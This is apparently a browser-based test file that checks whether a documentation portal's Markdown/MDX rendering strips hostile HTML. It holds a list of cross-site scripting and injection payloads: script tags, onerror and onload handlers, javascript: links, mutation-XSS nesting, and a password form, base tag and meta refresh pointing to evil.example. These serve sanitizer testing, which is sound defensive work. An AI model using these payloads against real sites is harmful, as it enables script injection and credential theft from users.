/** HTML that tries to be more than text, in every nesting and broken in every way: looked at in the browser’s own tree. */
import { rm } from 'node:fs/promises';
import fc from 'fast-check';
import { afterAll, describe, expect, test } from 'vitest';
import { fewOrAll } from '../full.ts';
import { openPortal } from './open-portal.ts';
import { folderWith } from './read-files.ts';

const attacks = [
  '<script>boom()</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>boom()</scr</script>ipt>',
  '<b a=b"><script>boom()</script>">',
  "<b a='\"><img src=x onerror=boom()>'>text</b>",
  '<img src=x onerror=boom()>',
  '<img/src="x"/onerror=boom()>',
  '<img src="data:image/svg+xml,<svg onload=boom()>">',
  '<a href="javascript:boom()">press</a>',
  '<details open ontoggle=boom()>text',
  '<p style="position:fixed;inset:0" class="skip" id="content" name="content">text</p>',
  '<style>body{display:none}</style>',
  '<svg><style><img src=x onerror=boom()></style></svg>',
  '<svg onload=boom()><a xlink:href="javascript:boom()"><text>x</text></a></svg>',
  '<math><mi><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=boom()&gt;">',
  '<form action="https://evil.example/"><input name=password><button>Send</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>boom()</script>"></iframe>',
  '<object data=x></object><embed src=x>',
  '<video src=x onerror=boom()></video><audio src=x></audio>',
  '<template><script>boom()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=boom()>"></noscript>',
  '<textarea></textarea><script>boom()</script>',
  '<title><a title="</title><img src=x onerror=boom()>">',
  '<tab-set><div class="tab" role="group">text</div></tab-set>',
  '<tierline-tabs><tierline-tab label="x">text</tierline-tab></tierline-tabs>',
  '<kbd onclick=boom() autofocus tabindex=0 onfocus=boom()>text</kbd>',
  '<table><td><script>boom()</script></table></td><td>text',
  '<a href="https://good.example" target=_top ping=https://evil.example/ onclick=boom()>good</a>',
  '<!--><script>boom()</script>-->',
  '<![CDATA[<script>boom()</script>]]>',
  '<?xml version="1.0"?><!DOCTYPE x>',
  '</div></main></body><h1>text</h1>',
  '<b><i><u><del><a href="https://a.example"><a href="https://b.example">x</b>',
];

const around = [
  (attack: string) => attack,
  (attack: string) => `- one\n- ${attack}`,
  (attack: string) => `> [!WARNING]\n> ${attack}`,
  (attack: string) => `<details><summary>${attack}</summary>\n\n${attack}\n\n</details>`,
  (attack: string) => `| a |\n|---|\n| <kbd>${attack.replaceAll('|', '')}</kbd> |`,
  (attack: string) => `<b>${attack}\n\n# ${attack}\n\n\`\`\`html\n${attack}\n\`\`\``,
  (attack: string) =>
    `<Aside type="tip" title="x">\n\n${attack}\n\n</Aside>\n\n<Details summary='${attack.replaceAll("'", '')}'>x</Details>`,
  (attack: string) => attack.slice(0, Math.ceil(attack.length * 0.7)),
];

/** Every attack in some surroundings, and mixtures of three by a fixed seed. */
const bodies = [
  ...attacks.flatMap((attack, at) =>
    around.filter((_, turn) => fewOrAll((at + turn) % 4 === 0, true)).map((put) => put(attack)),
  ),
  ...fc
    .sample(
      fc.tuple(
        ...[0, 1, 2].map(() => fc.constantFrom(...attacks)),
        fc.constantFrom('', '\n', '\n\n', ' <br>'),
      ),
      { seed: 17, numRuns: fewOrAll(10, 60) },
    )
    .map(([one, two, three, between]) => [one, two, three].join(between)),
];

const files = Object.fromEntries(
  bodies.flatMap((body, at) =>
    ['md', 'mdx'].map((ending, turn) => {
      const id = `HT-${String(2000 + 2 * at + turn)}`;
      return [`${id}-x.${ending}`, `---\nid: ${id}\ntitle: Words\nreviewedOn: 2026-11-20\n---\n\n${body}\n`];
    }),
  ),
);

/** A hundred pages are a test. */
const hundreds = [...Map.groupBy([...Object.entries(files).entries()], ([at]) => Math.floor(at / 100))].map(
  ([part, some]) => [part + 1, some.map(([, file]) => file)] as const,
);

const folder = await folderWith(files, { alone: true });
const portal = await openPortal({ build: { TIERLINE_ARTICLES: folder } });
afterAll(async () => {
  await portal.close();
  await rm(folder, { recursive: true });
});

/** What is in the text of an article that must not be there. */
const LOOK = `(() => {
  const fine = new Set('A ABBR B BLOCKQUOTE BR CAPTION CODE DD DEL DETAILS DIV DL DT EM FIGCAPTION FIGURE H2 H3 H4 H5 H6 HR I INS KBD LI OL P PRE Q S SAMP SMALL SPAN STRIKE STRONG SUB SUMMARY SUP TABLE TBODY TD TFOOT TH THEAD TR U UL VAR WBR SECTION BUTTON'.split(' '));
  const attributes = /^(?:href|class|id|role|tabindex|title|lang|dir|open|start|type|colspan|rowspan|scope|aria-[a-z]+|data-(?:word|footnote-[a-z]+))$/;
  const found = [];
  for (const one of document.querySelectorAll('.prose *')) {
    if (!fine.has(one.tagName)) found.push('<' + one.tagName + '>');
    for (const { name, value } of one.attributes) {
      if (!attributes.test(name)) found.push(one.tagName + ' ' + name);
      if (name === 'href' && !/^(?:https?:\\/\\/|#|\\/)/.test(value)) found.push(value);
      if (name === 'id' && document.querySelectorAll('#' + CSS.escape(value)).length > 1) found.push('#' + value);
    }
  }
  if (window.boomed) found.push('a program ran');
  for (const one of document.querySelectorAll('script[src], link[href], iframe, base, meta[http-equiv=refresh]'))
    if (/evil|^(?:IFRAME|BASE|META)$/.test((one.src ?? '') + (one.href ?? '') || one.tagName)) found.push(one.outerHTML);
  if (document.querySelectorAll('main > article').length !== 1 || !document.querySelector('footer')) found.push('the page is torn');
  return found;
})()`;

describe.skipIf(portal.none !== undefined)('markup of strangers', () => {
  test.each(hundreds)(
    'is text, or one of the harmless elements, on every page: part %i',
    async (_part, some) => {
      const page = await portal.visit('', { bypassCSP: true });
      await page.addInitScript('window.boom = () => { window.boomed = true; }');
      const wrong: string[] = [];
      for (const [name, text] of some) {
        await page.goto(`${portal.url}articles/${name.slice(0, 7)}/`, { waitUntil: 'domcontentloaded' });
        const found = await page.evaluate<readonly string[]>(LOOK);
        if (found.length > 0) wrong.push(`${name}: ${found.join(', ')} of ${text.slice(60)}`);
      }
      expect(wrong).toEqual([]);
    },
  );

  test('and the look would have found it', async () => {
    const page = await portal.visit('articles/HT-2000/', { bypassCSP: true });
    await page.evaluate(
      `document.querySelector('.prose').innerHTML = '<script>1</script><p onclick="boom()" id="content">x</p><a href="javascript:x">y</a>'`,
    );
    expect(await page.evaluate<readonly string[]>(LOOK)).toEqual([
      '<SCRIPT>',
      'P onclick',
      '#content',
      'javascript:x',
    ]);
  });
});
